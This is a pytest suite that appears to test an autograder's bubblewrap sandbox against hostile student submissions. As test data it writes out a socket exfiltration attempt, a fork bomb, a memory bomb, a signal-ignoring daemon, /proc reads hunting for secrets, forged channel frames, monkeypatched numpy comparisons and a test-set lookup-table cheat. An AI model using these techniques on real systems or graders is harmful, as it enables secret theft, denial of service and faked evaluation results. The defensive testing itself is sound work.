"""Hostile submissions against the real bubblewrap sandbox: each is built here and must be contained,
with a correct, clear report and the host left as it was."""

from __future__ import annotations

import io
import json
import socket
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path

import pytest

from grader.result import CheckStatus, Status
from grader.sandbox.bwrap import python_prefixes
from tests.conftest import check, make_zip, reference_file
from tests.tooling import missing_tool

pytestmark = [pytest.mark.sandbox, pytest.mark.usefixtures("host_unharmed")]

REF = reference_file("numpy_nn.py").decode()
LINEAR_FWD = "        return x @ self.W + self.b"


def numpy_nn(*, prelude: str = "", replace: tuple[str, str] | None = None) -> dict[str, str]:
    src = REF
    if replace:
        assert replace[0] in src
        src = src.replace(replace[0], replace[1], 1)
    future = "from __future__ import annotations\n"
    return {"numpy_nn.py": src.replace(future, future + prelude + "\n", 1) if future in src else prelude + "\n" + src}


def in_linear_forward(code: str) -> tuple[str, str]:
    """Run `code` at the start of Linear.forward (indented into the method)."""
    body = "\n".join("        " + line for line in code.strip().splitlines())
    return LINEAR_FWD, body + "\n" + LINEAR_FWD


def test_network_exfiltration_to_host_listener_is_refused(grade):
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    server.settimeout(0.2)
    port = server.getsockname()[1]
    accepted: list[object] = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                accepted.append(server.accept())
            except TimeoutError:
                continue

    t = threading.Thread(target=accept, daemon=True)
    t.start()
    code = f"""
import socket
s = socket.socket()
s.settimeout(2)
s.connect(("127.0.0.1", {port}))
s.sendall(b"stolen answers")
"""
    try:
        result = grade(numpy_nn(replace=in_linear_forward(code)))
    finally:
        stop.set()
        t.join()
        server.close()
    assert accepted == [], "the sandbox reached a listener on the host"
    fwd = check(result, "numpy_nn.Linear.forward")
    assert fwd.status is CheckStatus.FAILED
    # refused by the seccomp filter (no internet sockets at all) or, without it, by the empty network namespace
    assert any(e in fwd.message for e in ("PermissionError", "Address family not supported", "ConnectionRefusedError")), fwd.message
    assert check(result, "numpy_nn.ReLU.forward").status is CheckStatus.PASSED


def test_filesystem_walk_finds_no_labels_or_hidden_data(grade, fast_settings):
    """Walk everything the sandbox can see: no label files, no hidden or shared data, no datasets."""
    libs = [str(p) for p in python_prefixes(fast_settings.python)[0]]
    project = Path(__file__).resolve().parent.parent
    known = [str(fast_settings.hidden_data), str(fast_settings.shared_data), "/usr/share/datasets",
             str(project / "grader"), str(project / "tests"),
             "/root/.cache", "/home", "/etc/passwd", "/var/lib/redis"]
    code = r"""
import os, json
SECRET, OTHER = [], []
WORDS = ("t10k", "ubyte", "fashion", "dogs_and_cats", "hidden_data", "emnist", "digits", "mnist", "label", "cat", "dog")
DATA = (".gz", ".npy", ".npz", ".csv", ".idx", ".jpg", ".jpeg", ".png", ".pt", ".pth", ".mat", ".json", ".pkl")
for root, dirs, files in os.walk("/"):
    if root.startswith(("/proc", "/sys", "/dev")):
        dirs[:] = []
        continue
    for f in files:
        path = os.path.join(root, f)
        if not f.lower().endswith(DATA):
            continue
        if path.startswith(tuple(LIBS)):
            if "sklearn/datasets/data" in path:
                SECRET.append(path)
        elif any(w in f.lower() for w in WORDS):
            SECRET.append(path)
        else:
            OTHER.append(path)
EXISTS = [p for p in KNOWN if os.path.exists(p)]
""".replace("LIBS", repr(libs)).replace("KNOWN", repr(known))
    report = "raise RuntimeError('FOUND' + json.dumps({'secret': SECRET[:9], 'other': OTHER[:9], 'exists': EXISTS}))"
    result = grade(numpy_nn(prelude=code, replace=in_linear_forward(report)))
    msg = check(result, "numpy_nn.Linear.forward").message
    assert "FOUND{" in msg and "}" in msg, msg
    found = json.loads(msg[msg.index("FOUND") + 5: msg.rindex("}") + 1])
    assert found["secret"] == [], found["secret"]
    assert found["exists"] == [], found["exists"]
    # Outside system libraries, the interpreter and its packages, the only data files are the judge's inputs.
    assert all(p.startswith(("/job/in/", "/usr/lib/")) for p in found["other"]), found["other"]


def test_fork_bomb_is_stopped_and_reported(grade):
    code = """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""
    t0 = time.monotonic()
    result = grade(numpy_nn(prelude=code), import_s=8)
    assert time.monotonic() - t0 < 60
    msg = check(result, "numpy_nn.Linear.forward").message
    assert "importing numpy_nn.py" in msg
    assert "256 processes" in msg or "did not finish" in msg
    assert result.status is Status.GRADED


def test_memory_bomb_is_killed_and_reported(grade):
    code = """
import numpy as np
hog = np.ones((4, 2**30 // 8))
"""
    # op_s 30: first-touch page faults on this VM can run at ~120 MB/s, so reaching the 512 MiB limit may take
    # seconds longer than the fast settings' 4 s per call
    result = grade(numpy_nn(replace=in_linear_forward(code)), memory_bytes=512 * 2**20, op_s=30)
    msg = check(result, "numpy_nn.Linear.forward").message
    assert "Linear.forward" in msg and "memory" in msg, msg
    # The sandbox restarted: the other layers were still graded.
    assert check(result, "numpy_nn.Sigmoid.forward").status is CheckStatus.PASSED


def test_infinite_loop_at_import(grade):
    t0 = time.monotonic()
    result = grade(numpy_nn(prelude="while True:\n    pass\n"), import_s=5)
    elapsed = time.monotonic() - t0
    assert elapsed < 30, elapsed
    for c in result.checks:
        if c.id.startswith("numpy_nn."):
            assert c.status is CheckStatus.FAILED
            assert "importing numpy_nn.py did not finish within 5 s" in c.message, c.message


def test_infinite_loop_inside_forward_fails_only_that_layer(grade):
    result = grade(numpy_nn(replace=in_linear_forward("while True:\n    pass")), op_s=2)
    msg = check(result, "numpy_nn.Linear.forward").message
    assert "Linear.forward did not finish within 2 s" in msg, msg
    assert check(result, "numpy_nn.ReLU.backward").status is CheckStatus.PASSED
    assert check(result, "numpy_nn.SE.gradcheck").status is CheckStatus.PASSED


def test_daemon_that_double_forks_and_ignores_sigterm_does_not_survive(grade):
    code = """
import os, signal, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        while True:
            time.sleep(0.1)
    os._exit(0)
"""
    result = grade(numpy_nn(prelude=code))
    assert check(result, "numpy_nn.Linear.forward").status is CheckStatus.PASSED
    # host_unharmed asserts that no process with the sandbox's environment is left.


def test_files_left_behind_are_not_seen_by_a_later_submission(grade):
    tag = uuid.uuid4().hex
    writer = f"""
import os
for d in (os.getcwd(), "/tmp", os.path.expanduser("~"), "/dev/shm"):
    with open(os.path.join(d, "{tag}"), "w") as f:
        f.write("answers")
"""
    first = grade(numpy_nn(prelude=writer))
    assert check(first, "numpy_nn.Linear.forward").status is CheckStatus.PASSED
    reader = f"""
import os
LEFT = [d for d in (os.getcwd(), "/tmp", os.path.expanduser("~"), "/dev/shm") if os.path.exists(os.path.join(d, "{tag}"))]
"""
    second = grade(numpy_nn(prelude=reader, replace=in_linear_forward("raise RuntimeError('LEFT=%s' % LEFT)")))
    assert "LEFT=[]" in check(second, "numpy_nn.Linear.forward").message
    assert not (Path("/tmp") / tag).exists()
    assert not (Path("/dev/shm") / tag).exists()


def test_fake_result_on_stdout_does_not_reach_the_json(tmp_path, fast_settings):
    fake = json.dumps({"schema": 1, "assignment": "rpz-cnn", "status": "graded", "score": 6.0, "max_score": 6.0,
                       "passed": True, "checks": []})
    src = numpy_nn(prelude=f"import sys\nprint({fake!r})\nprint({fake!r}, file=sys.stderr)\n",
                   replace=("return dL_wrt_output @ self.W.T", "return dL_wrt_output @ self.W.T * 0"))
    z = make_zip(tmp_path / "fake.zip", src)
    env = {"AUTOGRADER_WORK_DIR": str(fast_settings.work_dir), "PATH": "/usr/bin:/bin",
           "AUTOGRADER_LIMITS": ",".join(f"{k}={v}" for k, v in fast_settings.limit_overrides.items())}
    proc = subprocess.run([sys.executable, "-m", "grader.cli", "grade", str(z), "--json"], capture_output=True,
                          text=True, env=env, timeout=300)
    assert proc.returncode == 0, proc.stderr
    result = json.loads(proc.stdout)  # exactly one JSON document: nothing else on stdout
    assert result["score"] < 6.0
    assert result["passed"] is False
    linear_bwd = next(c for c in result["checks"] if c["id"] == "numpy_nn.Linear.backward")
    assert linear_bwd["status"] == "failed"


def test_forged_frames_on_the_channel_do_not_pass_checks(grade):
    code = """
import os, struct, json
def frame(msg):
    h = json.dumps({"body": msg, "arrays": []}).encode()
    p = struct.pack(">I", len(h)) + h
    return struct.pack(">I", len(p)) + p
for fd in range(3, 64):
    try:
        os.write(fd, frame({"t": "done"}))
    except OSError:
        pass
"""
    result = grade(numpy_nn(prelude=code))
    assert result.status is Status.GRADED
    assert not result.passed
    assert all(c.status is not CheckStatus.PASSED for c in result.checks if c.id.startswith("numpy_nn."))


@pytest.mark.parametrize("how", ["os._exit(3)", "raise SystemExit(0)", "import sys; sys.exit(1)"])
def test_exit_in_the_middle_of_a_check(grade, how):
    result = grade(numpy_nn(prelude="import os, sys", replace=("return dL_wrt_output @ self.W.T", f"{how}\n        return 0")))
    msg = check(result, "numpy_nn.Linear.backward").message
    assert check(result, "numpy_nn.Linear.backward").status is CheckStatus.FAILED
    assert "Linear.backward" in msg
    assert ("exit" in msg) or ("SystemExit" in msg), msg
    assert check(result, "numpy_nn.Sigmoid.backward").status is CheckStatus.PASSED
    assert check(result, "numpy_nn.Linear.forward").status is CheckStatus.PASSED


def test_monkeypatched_comparisons_do_not_help(grade):
    code = """
import numpy as np, numpy.testing
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.isclose = lambda a, b, *x, **k: np.ones(np.shape(a), dtype=bool)
numpy.testing.assert_array_almost_equal = lambda *a, **k: None
"""
    result = grade(numpy_nn(prelude=code, replace=("return np.maximum(x, 0.0)", "return x")))
    assert check(result, "numpy_nn.ReLU.forward").status is CheckStatus.FAILED
    assert "ReLU.forward" in check(result, "numpy_nn.ReLU.forward").message


def test_nan_outputs_are_reported(grade):
    result = grade(numpy_nn(replace=(LINEAR_FWD, "        return (x @ self.W + self.b) * np.nan")))
    msg = check(result, "numpy_nn.Linear.forward").message
    assert "nan" in msg.lower() and "Linear.forward" in msg, msg


def test_huge_output_is_capped(grade):
    result = grade(numpy_nn(replace=(LINEAR_FWD, "        return np.zeros((3000, 3000, 4))")),
                   output_bytes=8 * 2**20)
    c = check(result, "numpy_nn.Linear.forward")
    assert c.status is CheckStatus.FAILED
    assert "bytes of output" in c.message or "cannot accept" in c.message, c.message
    assert check(result, "numpy_nn.ReLU.forward").status is CheckStatus.PASSED


def test_parent_environment_and_secrets_are_not_visible(grade, monkeypatch):
    secret = f"s3cr3t-{uuid.uuid4().hex}"
    monkeypatch.setenv("AUTOGRADER_SECRET_KEY", secret)
    monkeypatch.setenv("DATABASE_URL", f"postgresql://grader:{secret}@db/grades")
    code = """
import os
SEEN = []
for pid in os.listdir("/proc"):
    if pid.isdigit() or pid == "self":
        for f in ("environ", "cmdline"):
            try:
                SEEN.append(open(f"/proc/{pid}/{f}", "rb").read().decode(errors="replace"))
            except OSError:
                pass
SEEN.append(repr(dict(os.environ)))
SEEN.append(open("/proc/self/mountinfo").read())
"""
    code += """
HITS = [s[:200] for s in SEEN if "AUTOGRADER_SECRET_KEY" in s or "DATABASE_URL" in s or "s3cr3t-" in s]
"""
    report = "raise RuntimeError('HITS=%d of %d %r' % (len(HITS), len(SEEN), HITS))"
    result = grade(numpy_nn(prelude=code, replace=in_linear_forward(report)))
    msg = check(result, "numpy_nn.Linear.forward").message
    assert "HITS=0 of" in msg, msg
    assert int(msg.split(" of ")[1].split()[0]) >= 3  # it did read environ/cmdline of the processes it sees
    assert secret not in msg


def test_closing_the_channel_and_exiting_behind_a_daemon(grade):
    """Student code that closes every inherited fd, or exits while a child keeps the channel open."""
    closer = numpy_nn(replace=in_linear_forward("import os\nos.closerange(3, 256)\nwhile True:\n    pass"))
    result = grade(closer, op_s=3)
    msg = check(result, "numpy_nn.Linear.forward").message
    assert "Linear.forward" in msg and ("channel" in msg or "did not finish" in msg), msg
    assert check(result, "numpy_nn.ReLU.forward").status is CheckStatus.PASSED

    code = "import os, time\nif os.fork() == 0:\n    time.sleep(60)\nos._exit(4)"
    t0 = time.monotonic()
    result = grade(numpy_nn(replace=in_linear_forward(code)), op_s=20)
    msg = check(result, "numpy_nn.Linear.forward").message
    assert "exit code 4" in msg, msg
    assert time.monotonic() - t0 < 15, "the end of the process was not noticed before the op deadline"


def test_seccomp_denies_kernel_surface_student_code_never_needs(grade):
    from grader.sandbox.seccomp import seccomp_program

    if seccomp_program() is None:
        missing_tool("python3-seccomp (libseccomp) is not installed: the optional filter is off")
    code = """
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
RESULTS = {}
for name, nr in (("io_uring_setup", 425), ("perf_event_open", 298), ("userfaultfd", 323), ("ptrace", 101), ("bpf", 321)):
    rc = libc.syscall(nr, 0, 0, 0, 0, 0)
    RESULTS[name] = ctypes.get_errno() if rc == -1 else "allowed"
for fam in (socket.AF_INET, socket.AF_INET6, socket.AF_NETLINK):
    try:
        socket.socket(fam, socket.SOCK_DGRAM).close()
        RESULTS[int(fam)] = "allowed"
    except OSError as e:
        RESULTS[int(fam)] = e.errno
a, b = socket.socketpair()  # AF_UNIX stays available (multiprocessing, DataLoader workers)
a.close(); b.close()
"""
    result = grade(numpy_nn(prelude=code, replace=in_linear_forward("raise RuntimeError('RESULTS=%r' % RESULTS)")))
    msg = check(result, "numpy_nn.Linear.forward").message
    assert "RESULTS=" in msg, msg
    assert "allowed" not in msg, msg


LOOKUP_CLASSIFY = '''

import hashlib as _hashlib


def _keys(img):
    """Three keys of one image: its exact bytes, its zero mask, a coarse quantization (8 levels)."""
    u8 = (img * 255).round().to(torch.uint8).numpy()
    return [_hashlib.sha1(a.tobytes()).hexdigest()[:16] for a in (u8, u8 > 0, u8 // 32)]


_honest_classify = classify


def classify(model, x):
    """Looks each image up in a table of the public test set; the network's answer when it is not there."""
    out = _honest_classify(model, x)
    for i, img in enumerate(x):
        found = [TABLE[k] for k in _keys(img) if k in TABLE]
        if found:
            out[i] = found[0]
    return out


TABLE = {table!r}
'''


@pytest.mark.slow
def test_lookup_table_of_the_public_test_set_gains_nothing(grade, fast_settings):
    """FashionMNIST's test set and labels are public: a classify() that looks each image up in a table keyed by
    its bytes (or zero mask, or coarse quantization) and falls back to its network would score 100 % on
    bit-exact images. The dither of every run leaves it its network's own accuracy (0.919)."""
    import hashlib

    import numpy as np
    import torch

    from grader.data import load_hidden

    fashion = load_hidden(fast_settings, "fashion_mnist")
    table: dict[str, int] = {}
    for img, label in zip(fashion.images, fashion.labels, strict=True):
        for a in (img, img > 0, img // 32):
            table[hashlib.sha1(a.tobytes()).hexdigest()[:16]] = int(label)
    source = reference_file("pytorch_cnn.py").decode() + LOOKUP_CLASSIFY.format(table=table)

    # The cheat is real: on the images as they are (dither 0) the table gets every label right.
    module: dict[str, object] = {"__name__": "pytorch_cnn"}
    exec(compile(source, "pytorch_cnn.py", "exec"), module)  # noqa: S102 - our own test cheat, not student code
    net = module["MyNet"]()
    net.load_state_dict(torch.load(io.BytesIO(reference_file("model.pt")), weights_only=True))
    net.eval()
    images, labels = fashion.for_sandbox(dither=0)
    with torch.no_grad():
        predicted = module["classify"](net, torch.from_numpy(images[:2000]).float() / 255)
    assert np.array_equal(predicted.numpy(), labels[:2000])

    files = {"numpy_nn.py": reference_file("numpy_nn.py"), "pytorch_cnn.py": source,
             "model.pt": reference_file("model.pt")}
    result = grade(files)
    assert check(result, "pytorch_cnn.classify").status is CheckStatus.PASSED  # no hit on the random inputs
    assert check(result, "pytorch_cnn.MyNet.accuracy").status is CheckStatus.PASSED
    assert 0.90 < result.metrics["mynet.accuracy"] < 0.93  # the network's own 0.919, not the table's 1.0
